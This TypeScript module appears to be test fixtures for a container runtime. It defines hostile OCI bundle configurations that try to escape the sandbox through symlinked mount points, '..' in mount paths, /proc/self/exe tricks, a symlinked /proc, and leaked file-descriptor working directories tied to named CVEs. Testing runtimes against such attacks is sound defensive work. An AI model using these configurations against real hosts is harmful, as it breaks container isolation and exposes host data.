/** Bundles whose config.json, or whose root file system, is the attack on whoever starts them. */
import * as fs from 'node:fs';
import { join } from 'node:path';

interface AttackedConfig {
  mounts: { type: string; destination: string; source: string; options?: string[] }[];
  process: { cwd: string; args: string[] };
  root: { path: string; readonly: boolean };
  linux: { maskedPaths?: string[]; readonlyPaths?: string[] };
}

interface Places {
  /** The container's root, on the host; writable. */
  readonly root: string;
  readonly outside: string;
  readonly rw: string;
}

export interface ConfigAttack {
  readonly name: string;
  readonly change: (config: AttackedConfig, places: Places) => void;
}

/** What links in the way of a mount point could lead to (CVE-2021-30465, CVE-2019-19921). */
function throughLink(name: string, target: (p: Places) => string): ConfigAttack {
  return {
    name: `mount through ${name}`,
    change: (config, places) => {
      fs.symlinkSync(target(places), join(places.root, 'evil'));
      fs.symlinkSync(target(places), join(places.rw, 'evil'));
      for (const destination of ['/evil', '/evil/made', '/rw/evil', '/rw/evil/made']) {
        config.mounts.push({ type: 'tmpfs', destination, source: 'tmpfs', options: ['mode=777'] });
        config.mounts.push({ type: 'bind', destination, source: places.rw, options: ['rbind'] });
      }
      config.linux.maskedPaths = ['/evil/secret', '/rw/evil/secret', '/evil'];
      config.linux.readonlyPaths = ['/evil', '/rw/evil'];
    },
  };
}

export function configAttacks(): ConfigAttack[] {
  const attacks: ConfigAttack[] = [
    throughLink('an absolute link', (p) => p.outside),
    throughLink('a relative link', () => '../../../../../../../../outside'),
    throughLink('/proc/self/root', (p) => `/proc/self/root${p.outside}`),
    {
      name: '#!/proc/self/exe as the program',
      change: (config, { root }) => {
        fs.writeFileSync(join(root, 'evil'), '#!/proc/self/exe\n', { mode: 0o755 });
        config.process.args = ['/evil'];
      },
    },
    {
      name: '/proc/self/exe as the program',
      change: (config) => {
        config.process.args = ['/proc/self/exe', '--version'];
      },
    },
    {
      name: 'a program that is a link outside',
      change: (config, { root, outside }) => {
        fs.symlinkSync(join(outside, 'secret'), join(root, 'evil'));
        config.process.args = ['/evil'];
      },
    },
    {
      name: 'dots in mount points',
      change: (config, { rw }) => {
        for (const destination of ['/../../../outside/made', '/rw/../../outside/made']) {
          config.mounts.push({ type: 'bind', destination, source: rw, options: ['rbind'] });
        }
      },
    },
    {
      name: '/proc of the sandbox is a link',
      change: (config, { root, outside }) => {
        fs.rmdirSync(join(root, 'proc'));
        fs.symlinkSync(outside, join(root, 'proc'));
        config.process.cwd = '/proc';
      },
    },
  ];
  // CVE-2024-21626: a working directory by a descriptor that the runtime left open.
  for (const fd of [3, 5, 7, 8, 9, 12]) {
    attacks.push({
      name: `working directory /proc/self/fd/${fd}`,
      change: (config) => {
        config.process.cwd = `/proc/self/fd/${fd}/../../..`;
      },
    });
  }
  return attacks;
}
